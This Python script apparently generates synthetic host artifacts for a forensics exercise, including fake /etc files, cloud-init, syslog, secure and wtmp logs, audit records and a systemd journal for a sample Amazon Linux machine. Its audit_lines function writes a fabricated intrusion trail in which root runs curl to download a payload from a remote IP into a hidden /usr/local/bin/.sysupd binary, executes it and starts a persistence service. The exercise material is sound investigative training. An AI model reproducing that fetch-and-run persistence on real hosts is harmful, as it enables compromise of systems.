"""Texts of the host: settings and logs."""
import os
import random
import struct
import subprocess
import tempfile
from datetime import datetime, timezone

INSTANCE = "i-0f3a9c1d2b4e5f607"
MACHINE = "ec20f3a9c1d2b4e5f60711223344aabb"
BOOT_ID = "f0c0cabed8404e399a6a46699ee33e5f"   # as the memory sample says
BOOTED = 1773015000.738


def at(day, hour, minute, second):
    """UTC; days of March 2026, those before its first are of February."""
    return 1772323200 + ((day - 1) * 24 + hour) * 3600 + minute * 60 + second


def stamp(t):
    d = datetime.fromtimestamp(t, timezone.utc)
    return "%s %2d %s" % (d.strftime("%b"), d.day, d.strftime("%H:%M:%S"))


def zone():
    """UTC as a TZif file of version 2."""
    part = b"TZif2" + bytes(15) + struct.pack(">6I", 0, 0, 0, 0, 1, 4) + \
        struct.pack(">iBB", 0, 0, 0) + b"UTC\0"
    return part + part + b"\nUTC0\n"


def etc_files():
    return {
        "/usr/lib/os-release": (0o644, 'NAME="Amazon Linux"\nVERSION="2023"\n'
                                'ID="amzn"\nID_LIKE="fedora"\n'
                                'VERSION_ID="2023"\nPRETTY_NAME="Amazon Linux '
                                '2023 (sample)"\n'),
        "/etc/passwd": (0o644, "root:x:0:0:root:/root:/bin/bash\n"
                        "sshd:x:74:74::/usr/share/empty.sshd:/sbin/nologin\n"
                        "nginx:x:993:993::/var/lib/nginx:/sbin/nologin\n"
                        "ec2-user:x:1000:1000::/home/ec2-user:/bin/bash\n"
                        "app:x:1001:1001::/data/www:/sbin/nologin\n"),
        "/etc/group": (0o644, "root:x:0:\nadm:x:4:ec2-user\n"
                       "wheel:x:10:ec2-user\nsshd:x:74:\nnginx:x:993:\n"
                       "ec2-user:x:1000:\napp:x:1001:\n"),
        "/etc/shadow": (0o000, "root:*:20508::::::\nsshd:!!:20508::::::\n"
                        "nginx:!!:20520::::::\nec2-user:!!:20521:0:99999:7:::"
                        "\napp:!!:20520::::::\n"),
        "/etc/hosts": (0o644, "127.0.0.1 localhost\n10.0.1.20 app-01\n"),
        "/etc/fstab": (0o644, "LABEL=/ / xfs defaults,noatime 1 1\n"
                       "PARTLABEL=EFI\\040System\\040Partition /boot/efi vfat "
                       "defaults,noatime,uid=0,gid=0,umask=0077 0 2\n"),
        "/etc/ssh/sshd_config": (0o600, "PasswordAuthentication no\n"
                                 "PermitRootLogin no\nUsePAM yes\n"),
        "/etc/ssh/ssh_host_ed25519_key.pub":
            (0o644, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEhostKEYnot"
             "REAL0000000000000000 app-01\n"),
        "/etc/sudoers.d/90-cloud-init-users":
            (0o440, "ec2-user ALL=(ALL) NOPASSWD:ALL\n"),
        "/etc/cron.d/0hourly": (0o644, "01 * * * * root run-parts "
                                "/etc/cron.hourly\n"),
        "/usr/lib/systemd/system/crond.service":
            (0o644, "[Service]\nExecStart=/usr/sbin/crond -n\n"),
        "/usr/lib/systemd/system/sshd.service":
            (0o644, "[Service]\nExecStart=/usr/sbin/sshd -D\n"),
    }


def cloud_init():
    log = "".join("2026-03-09 00:10:0%d,%03d - %s\n" % x for x in (
        (1, 204, "util.py[DEBUG]: Cloud-init v. 22.2.2 running 'init-local'"),
        (2, 17, "DataSourceEc2.py[DEBUG]: instance-id " + INSTANCE),
        (3, 310, "stages.py[INFO]: previous iid i-0b1de5c0de0000001, new"),
        (4, 120, "cc_set_hostname.py[DEBUG]: setting hostname app-01"),
        (5, 77, "cc_users_groups.py[DEBUG]: adding user ec2-user"),
        (7, 640, "util.py[DEBUG]: running runcmd")))
    output = ("Cloud-init v. 22.2.2 running 'modules:final' at Mon, 09 Mar "
              "2026 00:10:07 +0000. Up 6.9 seconds.\n")
    return log, output


def messages(_, day):
    """9 March: boot; 10 March: the hours until midnight."""
    if day == 9:
        t = int(BOOTED)
        rows = [(t + 1, "kernel: Linux version 6.1.0-56-cloud-amd64"),
                (t + 1, "kernel: XFS (nvme0n1p1): Mounting V5 Filesystem"),
                (t + 4, "systemd[1]: Hostname set to <app-01>."),
                (t + 5, "sshd[81]: Server listening on 0.0.0.0 port 22."),
                (t + 5, "crond[82]: (CRON) INFO (running with inotify "
                 "support)"),
                (t + 6, "chronyd[83]: Selected source 169.254.169.123"),
                (t + 8, "amazon-ssm-agent[84]: INFO agent started")]
    else:
        rows = [(at(9 + h // 24, h % 24, 1, 1), "crond[82]: (root) CMD "
                 "(run-parts /etc/cron.hourly)") for h in range(1, 48)]
    return "".join("%s app-01 %s\n" % (stamp(t), x) for t, x in rows)


def secure(day):
    if day == 9:
        t = at(9, 0, 47, 31)
        rows = [(t, "sshd[1204]: Accepted publickey for ec2-user from "
                 "192.0.2.10 port 50122 ssh2: ED25519 SHA256:EXAMPLEonly"),
                (t, "sshd[1204]: pam_unix(sshd:session): session opened for "
                 "user ec2-user(uid=1000) by (uid=0)"),
                (t + 150, "sudo[1233]: ec2-user : TTY=pts/0 ; "
                 "PWD=/home/ec2-user ; USER=root ; COMMAND=/usr/sbin/mkfs."
                 "ext4 -L data /dev/nvme1n1"),
                (at(9, 1, 3, 30), "sshd[1204]: pam_unix(sshd:session): "
                 "session closed for user ec2-user")]
    else:
        rows = [(at(11, 1, 41, 20 + i), "sshd[%d]: Connection closed by "
                 "192.0.2.99 port %d [preauth]" % (30411 + i, 44100 + i))
                for i in range(6)]
    return "".join("%s app-01 %s\n" % (stamp(t), x) for t, x in rows)


def utmp(kind, pid, line, ident, user, host, t, addr=b"\0\0\0\0"):
    return struct.pack("<hxxi32s4s32s256shhiii4s12x20x", kind, pid, line,
                       ident, user, host, 0, 0, 0, t, 0, addr)


def wtmp(login):
    if not login:
        return utmp(2, 0, b"~", b"~~", b"reboot", b"6.1.0-56-cloud-amd64",
                    int(BOOTED) + 1)
    t = at(9, 0, 47, 31)
    return utmp(7, 1204, b"pts/0", b"ts/0", b"ec2-user", b"192.0.2.10", t,
                bytes((192, 0, 2, 10))) + \
        utmp(8, 1204, b"pts/0", b"", b"", b"", at(9, 1, 3, 30))


def audit_old():
    """Two days of a rule that watches the site's connections: 1.5 MiB.
    Pairs of milliseconds and line."""
    rng, out = random.Random(7), []
    t, serial = at(9, 1, 0, 0) * 1000, 4100
    while t < at(11, 1, 5, 0) * 1000:
        t += rng.randrange(20000, 60000)
        serial += 1
        out.append((t,
            'type=SYSCALL msg=audit(%d.%03d:%d): arch=c000003e syscall=42 '
            'success=yes exit=0 a0=%x a1=7ffe%08x a2=10 a3=0 items=0 ppid=1 '
            'pid=%d auid=4294967295 uid=1001 gid=1001 euid=1001 suid=1001 '
            'fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=(none) '
            'ses=4294967295 comm="gunicorn" exe="/usr/bin/python3.9" '
            'subj=system_u:system_r:unconfined_service_t:s0 key="net"\n' % (
                t // 1000, t % 1000, serial, rng.randrange(5, 40),
                rng.randrange(2 ** 32), 1300 + serial % 4)))
    return out


def audit_lines():
    def row(kind, t, ms, serial, text):
        return "type=%s msg=audit(%d.%03d:%d): %s\n" % (kind, t, ms, serial,
                                                        text)
    t, root = at(11, 3, 20, 14), "auid=4294967295 uid=0 gid=0 euid=0"
    execve = ("arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=%d "
              "pid=%d " + root + ' comm="%s" exe="%s" key="exec"')
    return "".join((
        row("SYSCALL", t, 702, 9001, execve % (88, 89, "bash",
                                               "/usr/bin/bash")),
        row("EXECVE", t, 702, 9001, 'argc=2 a0="/bin/bash" a1="_script.sh"'),
        row("SYSCALL", t + 1, 44, 9002, execve % (89, 90, "curl",
                                                  "/usr/bin/curl")),
        row("EXECVE", t + 1, 44, 9002, 'argc=5 a0="curl" a1="-fsS" a2="-o" '
            'a3="/usr/local/bin/.sysupd" a4="http://198.51.100.66/u"'),
        row("SYSCALL", t + 3, 9, 9003, execve % (1, 92, ".sysupd",
                                                 "/usr/local/bin/.sysupd")),
        row("EXECVE", t + 3, 9, 9003, 'argc=1 a0="/usr/local/bin/.sysupd"'),
        row("SERVICE_START", at(11, 3, 33, 18), 893, 9011, "pid=1 uid=0 "
            "auid=4294967295 ses=4294967295 msg='unit=sysupd comm=\"systemd\" "
            "exe=\"/usr/lib/systemd/systemd\" res=success'")))


def journal(events):
    """A journal file with the same messages, by systemd's own writer."""
    text = []
    for i, (ms, line) in enumerate(events):
        head, body = line.split(": ", 1)
        name = head.split()[-1]
        pid = name[name.index("[") + 1:-1]
        us = ms * 1000 + 137
        text.append("".join("%s=%s\n" % x for x in (
            ("__CURSOR", "x%d" % i), ("__REALTIME_TIMESTAMP", us),
            ("__MONOTONIC_TIMESTAMP", us - int(BOOTED * 1000000)),
            ("_BOOT_ID", BOOT_ID), ("_MACHINE_ID", MACHINE),
            ("_HOSTNAME", "app-01"), ("_TRANSPORT", "syslog"),
            ("PRIORITY", 6), ("_UID", 0), ("_PID", pid),
            ("SYSLOG_IDENTIFIER", name.split("[")[0]), ("MESSAGE", body))) +
            "\n")
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, "system.journal")
        subprocess.run(["/lib/systemd/systemd-journal-remote", "--compress=no",
                        "--output=" + path, "-"], check=True,
                       input="".join(text).encode(),
                       stderr=subprocess.DEVNULL)
        return open(path, "rb").read()
